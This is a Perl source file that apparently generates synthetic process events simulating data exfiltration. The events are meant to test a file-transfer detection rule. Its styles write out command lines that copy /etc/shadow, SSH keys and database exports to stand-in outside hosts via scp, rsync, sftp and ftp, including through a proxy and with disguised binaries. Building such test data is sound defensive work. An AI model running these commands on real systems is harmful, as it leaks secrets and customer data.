# planted.pl: copies that somebody makes who should not. Part of generate.pl.
#
# A style is a function of the host and the time. Those that a rule for file transfers is meant to find come first; a
# copy that repeats a habit word for word, the server's side under sshd and tools without their names cannot be told by
# a single command line.

use strict;
use warnings;
use integer;

our (%set, %hosts, $day, $plant);

my $bash = '/usr/bin/bash';
my @loot = qw(/srv/data/customers.csv /var/lib/app/export.db /home/deploy/.ssh/id_ed25519 /etc/shadow /srv/repo.tgz /var/backups/all.tar.gz /tmp/.cache/a.zip /dev/shm/.x/d.tgz);

sub loot { return among(@loot) }
sub outside { return sprintf '%s.%d', among('198.51.100', '203.0.113', '192.0.2'), 30 + below(200) }
sub outside_name { return sprintf '%s.%s.example', among(qw(cdn dl store node7 static)), letters(7) =~ tr/A-Z0-9/a-za-j/r }
sub anywhere { return below(2) ? outside() : outside_name() }
sub account { return among(qw(root drop user ubuntu x)) }
sub other_host { my ($host) = @_; my $other; do { $other = one(among(qw(web app db worker))) } while $other == $host; return $other }
sub server { return one(among(qw(web app db worker))) }

my %styles = (
	'scp to an outside host, by a shell' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/scp', 'scp', loot(), account() . '@' . anywhere() . ':' ], $bash) },
	'scp, parent python' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/scp', 'scp', '-o', 'StrictHostKeyChecking=no', loot(), account() . '@' . anywhere() . ':/tmp/' ], [ '/usr/bin/python3.11', 'python3', '-c', 'import os' ]) },
	'scp, parent perl' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/scp', 'scp', '-q', loot(), 'd@' . outside() . ':a' ], [ '/usr/bin/perl', 'perl', '-e', 'x' ]) },
	'parent in /tmp, inside host' => sub { my ($h, $t) = @_; my $o = other_host($h); event($h, $t, [ '/usr/bin/scp', 'scp', loot(), "root\@$o->{address}:/var/tmp/" ], [ '/tmp/.' . letters(5) . '/upd', './upd' ]) },
	'bash copied to /tmp as parent' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/rsync', 'rsync', '-a', loot(), 'x@' . anywhere() . ':in/' ], [ '/tmp/bash', '/tmp/bash', '-i' ]) },
	'look-alike of a known host' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/rsync', 'rsync', '-a', '/srv/app/shared/', 'backup@' . among('nas01.c0rp.example', 'nas01.corp.examp1e', 'nas01-corp.example', 'sftp.acme-pay.examp1e', 'nas01.corp.example.evil.example') . ':/in/' ], [ '/usr/bin/dash', '/bin/sh', '-c', '/usr/local/sbin/ship-logs' ]) },
	'sftp with a batch' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/sftp', 'sftp', '-b', '/tmp/.b', '-P', '443', account() . '@' . anywhere() ], $bash) },
	'rsync over ssh to an outside host' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/rsync', 'rsync', '-az', '-e', 'ssh -p 443 -o StrictHostKeyChecking=no', '/srv/', account() . '@' . outside() . ':/d/' ], $bash) },
	'rsync to a daemon by URL' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/rsync', 'rsync', '-r', '/etc/', 'rsync://' . outside() . ':8873/in/' ], $bash) },
	'rsync to a daemon by ::' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/rsync', 'rsync', '-a', loot(), anywhere() . '::in' ], $bash) },
	'tnftp with a URL' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/tnftp', 'ftp', '-u', 'ftp://a:b@' . outside() . '/in/x', loot() ], $bash) },
	'ftp of inetutils with a script' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/inetutils-ftp', 'ftp', '-n', '-v', outside() ], [ '/usr/bin/dash', 'sh', '/dev/shm/f.sh' ]) },
	'hidden path to a host never sent to' => sub { my ($h, $t) = @_; my $o = other_host($h); event($h, $t, [ '/usr/bin/scp', 'scp', '/dev/shm/.x.tgz', "root\@$o->{address}:/tmp/.y" ], $bash) },
	'secret path to a host never sent to' => sub { my ($h, $t) = @_; my $o = other_host($h); event($h, $t, [ '/usr/bin/scp', 'scp', '/etc/shadow', "deploy\@$o->{name}:" ], $bash) },
	'tunnel through localhost' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/scp', 'scp', '-P', '2222', loot(), 'user@' . among('localhost', '127.0.0.1') . ':' ], $bash) },
	'private hop' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/rsync', 'rsync', '-a', '/srv/data/', sprintf('x@172.31.%d.%d:in/', below(250), 2 + below(250)) ], $bash) },
	'rsync daemon started' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/rsync', 'rsync', '--daemon', '--config=/tmp/.r.conf', '--port=8873' ], $bash) },
	'vsftpd started' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/sbin/vsftpd', '/usr/sbin/vsftpd', '/tmp/v.conf' ], $bash) },
	'rsync pulls' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/rsync', 'rsync', '--server', '--sender', '-logDtpre.iLsfxCIvu', '.', among('/var/lib/mysql/', '/srv/', '/home/') ], [ $bash, 'bash', '-c', 'rsync --server --sender' ]) },
	'scp pulls' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/scp', 'scp', '-f', '/etc/ssl/private/site.key' ], [ $bash, 'bash', '-c', 'scp -f /etc/ssl/private/site.key' ]) },
	'tool copied to another path' => sub { my ($h, $t) = @_; my $o = other_host($h); my $path = among('/tmp/', '/var/tmp/', '/dev/shm/', '/home/deploy/.local/'); event($h, $t, [ "${path}scp", 'scp', '/srv/x.tgz', "root\@$o->{address}:/srv/" ], $bash) },
	'jump host' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/scp', 'scp', '-J', 'j@' . outside(), loot(), 'x@' . anywhere() . ':' ], $bash) },
	'ProxyCommand' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/scp', 'scp', '-o', 'ProxyCommand=nc -X 5 -x 127.0.0.1:9050 %h %p', loot(), 'x@' . outside_name() . ':' ], $bash) },
	'repeated, one part after the other' => sub { my ($h, $t) = @_; my $to = anywhere(); event($h, $t + 4000 * $_, [ '/usr/bin/scp', 'scp', "/var/tmp/part.0$_", "u\@$to:" ], $bash) foreach 0 .. 7 },
	'repeated word for word' => sub { my ($h, $t) = @_; my $to = anywhere(); event($h, $t + 60000 * $_, [ '/usr/bin/rsync', 'rsync', '-a', '/srv/data/', "u\@$to:d/" ], [ '/usr/bin/dash', 'sh', '-c', 'while true' ]) foreach 0 .. 6 },
	'merged with others' => sub { my ($h, $t) = @_; local $plant->{merged} = 2; event($h, $t, [ '/usr/bin/scp', 'scp', loot(), account() . '@' . anywhere() . ':' ], [ $bash, 'bash', '-c', 'x' ]) },
	'short-lived' => sub { my ($h, $t) = @_; local $plant->{merged} = 1; event($h, $t, [ '/usr/bin/scp', 'scp', loot(), account() . '@' . anywhere() . ':' ], $bash) },
	'on two hosts at once' => sub { my ($h, $t) = @_; my ($to, $what, $o) = (anywhere(), loot(), other_host($h)); event($_, $t + below(60000), [ '/usr/bin/scp', 'scp', $what, "u\@$to:" ], $bash) foreach $h, $o },
	'text of a known job on another host' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/rsync', 'rsync', '-a', '-e', 'ssh -p 2222', '/volumes/', 'offsite@203.0.113.20:/in/' ], [ '/usr/bin/dash', '/bin/sh', '-c', '/usr/local/bin/offsite' ]) },
	'from one host to another through a third' => sub { my ($h, $t) = @_; my $o = other_host($h); event($h, $t, [ '/usr/bin/scp', 'scp', '-3', "root\@$o->{name}:/srv/x", 'u@' . anywhere() . ':' ], $bash) },
	'arrives hours late' => sub { my ($h, $t) = @_; local $plant->{delay} = 540; event($h, $t, [ '/usr/bin/scp', 'scp', loot(), account() . '@' . anywhere() . ':' ], $bash) },
	'incomplete event' => sub { my ($h, $t) = @_; local $plant->{bare} = 1; event($h, $t, [ '/usr/bin/scp', 'scp', loot(), account() . '@' . anywhere() . ':' ], $bash) },
	'list of files' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/rsync', 'rsync', '--files-from=/tmp/.l', '/', 'u@' . anywhere() . ':' ], $bash) },
	'parent is a web server' => sub { my ($h, $t) = @_; my $o = other_host($h); event($h, $t, [ '/usr/bin/sftp', 'sftp', '-b', '/tmp/b', "root\@$o->{address}" ], [ '/usr/sbin/php-fpm8.2', 'php-fpm: pool www' ], 'www-data') },
	'unit of systemd' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/rsync', 'rsync', '-a', '/home/', 'u@' . anywhere() . ':h/' ], [ '/usr/lib/systemd/systemd', '/sbin/init' ]) },
	'job to another destination' => sub { my ($h, $t) = @_; event($h, $t, [ '/usr/bin/rsync', 'rsync', '-az', '--delete', '/srv/app/shared/', 'sync@' . outside() . ":/export/shared/$h->{short}/" ], [ '/usr/bin/dash', '/bin/sh', '/etc/cron.hourly/shared' ], 'app') });

my %beyond = (
	'tool without its name' => sub {
		my ($h, $t) = @_;
		my $to = anywhere();

		event($h, $t, [ '/tmp/kworkerd', 'kworkerd', '-a', '/srv/', "u\@$to:" ], $bash);
		event($h, $t + 50, [ '/usr/bin/ssh', 'ssh', '-l', 'u', $to, 'rsync', '--server', '-logDtpre.iLsfxCIvu', '.', '.' ], [ '/tmp/kworkerd', 'kworkerd', '-a' ]) },
	'a habit word for word' => sub {
		my ($h, $t) = @_;
		my $nas = $hosts{nas}[0];

		event($nas, $t, [ '/usr/bin/rsync', 'rsync', '-a', '-e', 'ssh -p 2222', '/volumes/', 'offsite@203.0.113.20:/in/' ], [ '/usr/bin/dash', '/bin/sh', '-c', '/usr/local/bin/offsite' ]) },
	'sftp-server under sshd' => sub { my ($h, $t) = @_; event($hosts{file}[0], $t, [ '/usr/lib/openssh/sftp-server', '/usr/lib/openssh/sftp-server' ], [ '/usr/sbin/sshd', 'sshd: client7' ], 'client7') });

# When which copies are made: from the fourth day on, a twelfth of them beyond reach.
sub planted_plan
{
	my @names = sort keys %styles;
	my @beyond = sort keys %beyond;
	my $first = $set{days} > 6 ? 3 : $set{days} / 2;
	my @plan;

	foreach my $copy (0 .. $set{planted} - 1)
	{
		my $intent = $copy % 12 != 11;
		my $style = $intent ? $names[($copy - $copy / 12) % @names] : $beyond[$copy / 12 % @beyond];

		my $day = $first + below($set{days} - $first);

		# what comes late comes before the end
		push @plan, { copy => $copy + 1, style => $style, intent => $intent, day => $day, hour => below($day == $set{days} - 1 ? 14 : 22) };
	}
	return @plan;
}

sub plant_copy
{
	my ($copy) = @_;
	my $host = server();

	local $plant = { %$copy, merged => percent(35) ? 1 : 0 };
	($styles{$copy->{style}} || $beyond{$copy->{style}})->($host, moment($copy->{hour}, $copy->{hour} + 1));
	return;
}

1;
